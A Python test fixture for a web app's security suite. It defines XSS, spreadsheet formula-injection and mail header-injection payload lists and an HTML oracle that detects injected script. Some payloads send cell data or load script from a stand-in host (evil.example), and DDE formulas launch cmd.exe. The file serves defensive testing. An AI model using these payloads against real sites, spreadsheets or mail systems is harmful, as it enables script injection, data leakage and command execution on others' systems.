"""Attack corpus for the security suites, and the oracle that says whether a page let one through.

Every XSS payload carries the canary ``1337`` (in an attribute or tag name
where it injects markup, in its text otherwise), so a view can prove the value
reached it, and an element born from a payload is recognisable. The oracle
does not trust the canary alone: any ``on*`` attribute, inline script,
``javascript:`` URL, ``<base>``, ``<meta http-equiv=refresh>`` or ``srcdoc``
fails a page whatever its origin (the app's CSP forbids all of them anyway).
"""

from __future__ import annotations

import json
import os
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

THOROUGH = os.environ.get("CHECKOS_THOROUGH", "") not in ("", "0")
CANARY = "1337"

_LONG_UNIT = '"><svg x1337 onload=alert(1337)>'
XSS: dict[str, str] = {
    # script tags
    "script": "<script>alert(1337)</script>",
    "script_src": "<script src=//evil.example/1337.js></script>",
    "script_upper": "<SCRIPT>alert(1337)</SCRIPT>",
    "script_split": "<scr<script>ipt>alert(1337)</scr</script>ipt>",
    # attribute breakers
    "attr_double": '"><svg x1337 onload=alert(1337)>',
    "attr_single": "'><svg x1337 onload=alert(1337)>",
    "attr_event": '" autofocus onfocus="alert(1337)" x1337="',
    "attr_event_single": "' autofocus onfocus='alert(1337)' x1337='",
    "attr_unquoted": "x onmouseover=alert(1337) x1337=y",
    # URLs
    "javascript_url": "javascript:alert(1337)",
    "javascript_url_mixed": " JaVaScRiPt:alert(1337)",
    "javascript_url_entity": "jav&#x09;ascript:alert(1337)",
    "data_url": "data:text/html,<script>alert(1337)</script>",
    "vbscript_url": "vbscript:msgbox(1337)",
    "a_href": '<a href="javascript:alert(1337)" x1337>click</a>',
    # SVG and event handlers
    "img_onerror": "<img src=x x1337 onerror=alert(1337)>",
    "svg_animate": "<svg><animate x1337 onbegin=alert(1337) attributeName=x dur=1s>",
    "body_onload": "<body x1337 onload=alert(1337)>",
    "iframe_srcdoc": "<iframe x1337 srcdoc='<script>alert(1337)</script>'></iframe>",
    "details_ontoggle": "<details open x1337 ontoggle=alert(1337)>",
    "math_href": '<math><mtext><a x1337 href="javascript:alert(1337)">x</a></mtext></math>',
    "base_href": "<base x1337 href=//evil.example/>",
    "meta_refresh": '<meta x1337 http-equiv="refresh" content="0;url=javascript:alert(1337)">',
    "style_expression": "<div x1337 style=\"background:url('javascript:alert(1337)')\">",
    # context closers
    "close_textarea": "</textarea><script>alert(1337)</script>",
    "close_title": "</title><script>alert(1337)</script>",
    "close_script": "</script><script>alert(1337)</script>",
    "close_style": "</style><svg x1337 onload=alert(1337)>",
    "close_comment": "--><svg x1337 onload=alert(1337)><!--",
    "close_json": '"}]}</script><script>alert(1337)</script>',
    # template syntax (7*191 = 1337: an evaluated template shows the canary without the formula)
    "jinja": "{{7*191}}",
    "jinja_block": "{% set x = 7*191 %}{{x}}{{config}}",
    "js_template": "${7*191}#{7*191}",
    "angular": "{{constructor.constructor('alert(1337)')()}}",
    # Unicode tricks
    "rtl_override": "\u202e<svg x1337 onload=alert(1337)>\u202c",
    "zero_width": "<scr\u200bipt>alert(1337)</scr\u200bipt><svg\u200b x1337 onload=alert(1337)>",
    "fullwidth": "\uff1cscript\uff1ealert(1337)\uff1c/script\uff1e",
    "nul": "<svg\x00 x1337 onload=alert(1337)>\x00",
    "combining": "<s\u0336v\u0336g x1337 onload=alert(1337)>Z\u0351\u0352\u0353\u0354\u0355",
    "emoji_surrogates": "\U0001f600<svg x1337 onload=alert(1337)>\U0001f4a3",
    "line_separator": "\u2028<svg x1337 onload=alert(1337)>\u2029",
    "long": (_LONG_UNIT * 200)[:5000],
    # Polyglots: one value, many contexts (the fast run in `make test` uses these).
    "polyglot_breakers": (
        "'\"><svg x1337 onload=alert(1337)>--></script></title></textarea>{{7*191}}"
    ),
    "polyglot_urls": 'javascript:alert(1337)//"><img src=x x1337 onerror=alert(1337)>${7*191}',
    "polyglot_unicode_long": (
        "\u202e\uff1cscript\uff1ealert(1337)\uff1c/script\uff1e"
        "\u200b<svg\x00 x1337 onload=alert(1337)>"
        "Z\u0351\u0352 "
    )
    * 80,
}

# The fast run without CHECKOS_THOROUGH (each payload costs a whole world, ~6 s of CPU): three
# polyglots that together carry every family (quotes, closers, events, URLs, templates, Unicode,
# length). `make test` and `make security` run the whole corpus.
SMOKE = ("polyglot_breakers", "polyglot_urls", "polyglot_unicode_long")


def xss_corpus() -> dict[str, str]:
    return dict(XSS) if THOROUGH else {name: XSS[name] for name in SMOKE}


# Spreadsheet formula injection (CSV/XLSX "formula injection", DDE).
FORMULAS: dict[str, str] = {
    "plus_equals": "=1+1",
    "dde_cmd": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at_sum": "@SUM(1)",
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "dde_msexcel": "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "tab_prefixed": "\t=1+1",
    "cr_prefixed": "\r=1+1",
    "space_prefixed": " =1+1",
    "quote_equals": "'=1+1",
    "webservice": '=WEBSERVICE("http://evil.example/"&A2)',
    "importxml": '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "fullwidth_equals": "\uff1d1+1",
    "plus_plain": "+1",
    "at_cmd": "@cmd|'/c calc'!A1",
}

# Mail header injection: a value that would add a header or a recipient if passed through raw.
HEADERS: dict[str, str] = {
    "crlf_bcc": "Acme\r\nBcc: victim@evil.example",
    "lf_bcc": "Acme\nBcc: victim@evil.example",
    "cr_cc": "Acme\rCc: victim@evil.example",
    "crlf_space_bcc": "Acme\r\n Bcc: victim@evil.example",
    "crlf_to": "Acme\r\nTo: victim@evil.example",
    "crlf_body": "Acme\r\n\r\nInjected body victim@evil.example",
    "crlf_content_type": "Acme\r\nContent-Type: text/html\r\nX-Evil: victim@evil.example",
    "encoded_word": "=?utf-8?q?Acme=0D=0ABcc:_victim@evil.example?=",
    "unicode_line_sep": "Acme\u2028Bcc: victim@evil.example",
    "nel": "Acme\x85Bcc: victim@evil.example",
    "vertical_tab": "Acme\x0bBcc: victim@evil.example",
    "addr_comma": "Acme, victim@evil.example",
    "addr_angle": "Acme <victim@evil.example>",
    "nul": "Acme\x00Bcc: victim@evil.example",
}
EVIL_ADDRESS = "victim@evil.example"


# -- the oracle ----------------------------------------------------------------------------------

URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "cite",
        "srcset",
        "ping",
        "manifest",
    }
)
_SCHEME_NOISE = re.compile(r"[\x00-\x20\u200b-\u200f\u2028\u2029\u202a-\u202e\ufeff]+")
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:image/svg", "livescript:")
DATA_SCRIPTS = frozenset({"application/ld+json", "application/json"})


@dataclass
class Finding:
    where: str
    what: str

    def __str__(self) -> str:
        return f"{self.where}: {self.what}"


@dataclass
class Form:
    action: str
    method: str
    fields: list[tuple[str, str, str]] = field(default_factory=list)  # (tag, type, name)
    values: dict[str, str] = field(default_factory=dict)  # what the form would send as shown

    # Fields a person types free text into (not hidden, choices, files or passwords).
    TYPED = frozenset({"text", "email", "tel", "url", "search", "number", "date", "time"})

    def typed(self) -> list[str]:
        return [
            name
            for tag, kind, name in self.fields
            if tag == "textarea" or (tag == "input" and kind in self.TYPED)
        ]


@dataclass
class Page(HTMLParser):
    """Parsed HTML: the elements, attribute values, text, and inline script bodies."""

    elements: list[tuple[str, list[tuple[str, str | None]]]] = field(default_factory=list)
    texts: list[str] = field(default_factory=list)
    scripts: list[tuple[dict[str, str | None], str]] = field(default_factory=list)
    forms: list[Form] = field(default_factory=list)
    _open: str | None = None
    _script: tuple[dict[str, str | None], list[str]] | None = None

    def __post_init__(self) -> None:
        HTMLParser.__init__(self, convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))
        if tag == "script":
            self._script = (dict(attrs), [])
        named = dict(attrs)
        if tag == "form":
            method = (named.get("method") or "get").lower()
            self.forms.append(Form(named.get("action") or "", method))
        elif tag in ("input", "textarea", "select") and self.forms and named.get("name"):
            form, name = self.forms[-1], named["name"] or ""
            kind = (named.get("type") or "text").lower()
            form.fields.append((tag, kind, name))
            checkable = kind in ("radio", "checkbox")
            if tag == "input" and (not checkable or "checked" in named):
                form.values.setdefault(name, named.get("value") or "")
            self._open = name if tag in ("textarea", "select") else None
        elif tag == "option" and self.forms and self._open:
            values = self.forms[-1].values
            if "selected" in named or self._open not in values:
                values[self._open] = named.get("value") or ""

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            attrs, body = self._script
            self.scripts.append((attrs, "".join(body)))
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._open and self.forms and self.elements and self.elements[-1][0] == "textarea":
            self.forms[-1].values[self._open] = self.forms[-1].values.get(self._open, "") + data
        if self._script is not None:
            self._script[1].append(data)
        else:
            self.texts.append(data)

    def visible(self) -> str:
        """Text and attribute values, whitespace-collapsed: where a stored value may show."""
        values = [v for _tag, attrs in self.elements for _n, v in attrs if v]
        return " ".join(" ".join(self.texts + values).split())


def parse(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page


def dangerous(html: str, where: str) -> list[Finding]:
    """Every element, attribute or URL of ``html`` that could run script or came from a payload."""
    page = parse(html)
    found: list[Finding] = []
    for tag, attrs in page.elements:
        if CANARY in tag or "xss" in tag:
            found.append(Finding(where, f"element <{tag}> from a payload"))
        if tag == "base":
            found.append(Finding(where, "<base> element"))
        if tag == "meta" and (dict(attrs).get("http-equiv") or "").lower() == "refresh":
            found.append(Finding(where, "<meta http-equiv=refresh>"))
        for name, value in attrs:
            if name.startswith("on"):
                found.append(Finding(where, f"<{tag} {name}=...> event handler"))
            if CANARY in name:
                found.append(Finding(where, f"<{tag} {name}> attribute from a payload"))
            if name == "srcdoc":
                found.append(Finding(where, f"<{tag} srcdoc>"))
            if name in URL_ATTRIBUTES and value:
                plain = _SCHEME_NOISE.sub("", value).lower()
                if plain.startswith(BAD_SCHEMES):
                    found.append(Finding(where, f"<{tag} {name}={value[:60]!r}> script URL"))
            if name == "style" and value and "javascript:" in value.lower():
                found.append(Finding(where, f"<{tag} style> with a script URL"))
        # The style itself (a link's random id may contain 1337 by chance: not a payload).
        if CANARY in (dict(attrs).get("style") or ""):
            found.append(Finding(where, f"<{tag} style> carrying a payload"))
    for attrs, body in page.scripts:
        kind = (attrs.get("type") or "").lower()
        if kind in DATA_SCRIPTS:
            try:
                json.loads(body)
            except ValueError as problem:
                found.append(Finding(where, f"JSON script no longer parses: {problem}"))
        elif body.strip():
            found.append(Finding(where, f"inline script: {body.strip()[:60]!r}"))
    return found


# Template constructs: Jinja/Django/Twig expressions and blocks, JS template literals, Ruby/EL.
_TEMPLATE_RUN = re.compile(r"(?:\{\{.*?\}\}|\{%.*?%\}|[$#]\{.*?\})+", re.S)


def evaluated(html: str, payload: str, where: str) -> list[Finding]:
    """A template run of ``payload`` that computes the canary (7*191) and shows as its result.

    A value stored with ``{{7*191}}`` must come back as typed. The run's
    literal neighbourhood (up to 8 characters before it in the payload) is
    searched for in the page's text and attribute values followed by
    ``1337``: that is the payload with the template evaluated. A bare run (no
    neighbourhood) must not show as a stand-alone ``1337``.
    """
    flat = parse(html).visible()
    found: list[Finding] = []
    for run in _TEMPLATE_RUN.finditer(payload):
        if "7*191" not in run.group().replace(" ", ""):
            continue
        before = re.sub(r"\s+", " ", _TEMPLATE_RUN.sub("", payload[: run.start()]))[-8:]
        lead = re.escape(before.strip()) + r"\s*" if before.strip() else r"(?<![\w.])"
        if re.search(lead + f"(?:{CANARY})+" + r"(?!\d)", flat):
            found.append(Finding(where, f"template evaluated: {run.group()[:40]!r} shown as 1337"))
    return found


def json_scripts(html: str) -> list[object]:
    return [
        json.loads(body) for attrs, body in parse(html).scripts if attrs.get("type") in DATA_SCRIPTS
    ]


def as_stored(value: str, *, multiline: bool = False) -> str:
    """What the app keeps of a typed value (domain.validation.Checker.text)."""
    return value.strip() if multiline else " ".join(value.split())
